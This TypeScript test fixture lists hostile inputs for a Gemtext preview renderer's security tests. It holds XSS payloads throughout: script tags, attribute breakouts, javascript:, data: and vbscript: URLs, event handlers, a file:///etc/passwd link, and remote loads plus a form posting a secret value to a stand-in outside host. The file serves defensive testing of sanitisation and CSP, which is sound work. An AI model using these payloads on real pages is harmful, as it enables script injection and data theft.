/**
 * Hostile inputs for the preview. Every payload tries to run code that records itself through
 * `window.__pwned` (a trap the harness installs), call a dialog, log "pwned", or fetch from outside
 * loopback (203.0.113.0/24 is TEST-NET-3: never routable, and the harness aborts it anyway).
 */

const set = `window.__pwned='%s'`;
const run = (tag: string) => set.replace('%s', tag);

/** Gemtext documents, rendered by the real renderer in both styles. */
export const hostileGemtext: Record<string, string> = {
	'script tags in every line type': [
		`# <script>${run('h1')}</script>`,
		`## <script>${run('h2')}</script>`,
		`> <script>${run('quote')}</script>`,
		`* <script>${run('li')}</script>`,
		`<script>${run('text')}</script>`,
		`=> https://example.org/ <script>${run('label')}</script>`,
		'```',
		`</pre><script>${run('pre')}</script>`,
		'```',
	].join('\n'),
	'attribute breakouts in link URLs and labels': [
		`=> x" onmouseover="${run('dq')}" a.gmi label`,
		`=> x' onmouseover='${run('sq')}' label`,
		`=> x'/onerror='${run('img')}'.png image`,
		`=> a.png x' onerror='${run('alt')}`,
		`=> a.png x" onerror="${run('alt2')}`,
		`=> a.gmi "><img src=x onerror=${run('lbl')}>`,
		`=> https://example.org/"><script>${run('url')}</script> label`,
		`=> #"><svg onload=${run('frag')}> frag`,
	].join('\n'),
	'javascript:, data: and other scheme URLs': [
		`=> javascript:${run('js')} click me`,
		`=> JaVaScRiPt:${run('js2')} click me`,
		`=> javascript:${run('js3')}//.png image`,
		`=> java&#115;cript:${run('ent')} entity`,
		`=> data:text/html,<script>${run('data')}</script> data`,
		`=> data:image/svg+xml,<svg onload=${run('svg')}>.svg svg image`,
		`=> vbscript:msgbox(1) vb`,
		`=> command:workbench.action.terminal.new terminal`,
		`=> vscode:extension/evil ext`,
		`=> file:///etc/passwd passwd`,
		`=> //203.0.113.7/x.png scheme-relative image`,
		`=> http://203.0.113.7/track.png plain http image`,
		`=> ipns://203.0.113.7/x ipfs, a link as Gemtexter writes it`,
		`=> C:\\Windows\\win.ini a drive letter`,
	].join('\n'),
	'alt text of preformatted blocks': [
		'```"><script>' + run('alt') + '</script>',
		'code',
		'```',
		"```' onmouseover='" + run('alt2'),
		'code',
		'```',
		'```javascript" onfocus="' + run('alt3') + '" autofocus="',
		`alert('pwned')`,
		'```',
	].join('\n'),
	'entity tricks': [
		`&lt;script&gt;${run('lt')}&lt;/script&gt;`,
		`&#60;script&#62;${run('dec')}&#60;/script&#62;`,
		`&#x3C;img src=x onerror=${run('hex')}&#x3E;`,
		`=> a.gmi &quot;&gt;&lt;script&gt;${run('q')}&lt;/script&gt;`,
		`# &amp;lt;script&amp;gt;`,
		'> `<img src=x onerror=' + run('code') + '>`',
		'text with `</span><script>' + run('inline') + '</script>` inline code',
	].join('\n'),
	'markup that would navigate, embed or load': [
		`<meta http-equiv="refresh" content="0;url=http://203.0.113.7/">`,
		`<base href="http://203.0.113.7/">`,
		`<iframe src="http://203.0.113.7/"></iframe>`,
		`<link rel="stylesheet" href="http://203.0.113.7/x.css">`,
		`<style>@import url(http://203.0.113.7/y.css);</style>`,
		`<form action="http://203.0.113.7/"><button>go</button></form>`,
		`=> http://203.0.113.7/ <img src="http://203.0.113.7/label.png">`,
		`# <object data="http://203.0.113.7/o"></object>`,
	].join('\n'),
	'huge lines': [
		'# ' + 'A'.repeat(200_000),
		'x'.repeat(1_000_000) + `<script>${run('huge')}</script>`,
		'=> ' + 'a'.repeat(100_000) + '.gmi ' + '"'.repeat(50_000),
		'```',
		'y'.repeat(500_000),
		'```',
	].join('\n'),
};

/**
 * Raw bodies as a broken renderer might emit them (nothing escaped): the page's CSP and the webview's
 * sanitiser must hold on their own.
 */
export const hostileBodies: Record<string, string> = {
	'inline script': `<p data-line="0">a</p><script>${run('inline-script')};alert(1);console.log('pwned')</script>`,
	'script with a guessed nonce': `<script nonce="AAAAAAAAAAAAAAAAAAAAAA">${run('nonce')}</script>`,
	'external script': `<script src="http://203.0.113.7/x.js"></script>`,
	'event handlers': [
		`<img src="x-missing.png" onerror="${run('onerror')}">`,
		`<svg><animate onbegin="${run('onbegin')}" attributeName="x" dur="1s"/></svg>`,
		`<svg onload="${run('onload')}"></svg>`,
		`<details open ontoggle="${run('ontoggle')}"><summary>x</summary></details>`,
		`<body onload="${run('bodyload')}">`,
		`<input autofocus onfocus="${run('onfocus')}">`,
	].join('\n'),
	'javascript: and data: URLs': [
		`<a id="js" href="javascript:${run('href')}">js</a>`,
		`<a id="data" href="data:text/html,<script>parent.__pwned=1</script>">data</a>`,
		`<iframe src="javascript:parent.__pwned='iframe'"></iframe>`,
		`<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
		`<object data="data:text/html,<script>parent.__pwned='object'</script>"></object>`,
		`<embed src="data:text/html,<script>parent.__pwned='embed'</script>">`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwned=1'/>">`,
	].join('\n'),
	'remote loads': [
		`<img src="http://203.0.113.7/a.png">`,
		`<img srcset="http://203.0.113.7/b.png 2x">`,
		`<link rel="stylesheet" href="http://203.0.113.7/c.css">`,
		`<link rel="prefetch" href="http://203.0.113.7/d">`,
		`<style>@import url("http://203.0.113.7/e.css"); body{background:url(http://203.0.113.7/f.png)}</style>`,
		`<p style="background-image:url(http://203.0.113.7/g.png)">styled</p>`,
		`<video src="http://203.0.113.7/h.mp4" autoplay></video>`,
		`<audio src="http://203.0.113.7/i.mp3" autoplay></audio>`,
		`<form action="http://203.0.113.7/j" id="f"><input name="q" value="secret"></form>`,
	].join('\n'),
	'navigation': [
		`<meta http-equiv="refresh" content="0;url=http://203.0.113.7/refresh">`,
		`<base href="http://203.0.113.7/">`,
		`<a id="rel" href="relative.gmi">relative</a>`,
		`<a id="ext" href="https://example.org/">external</a>`,
		`<a id="blank" href="https://example.org/" target="_blank">blank</a>`,
	].join('\n'),
};
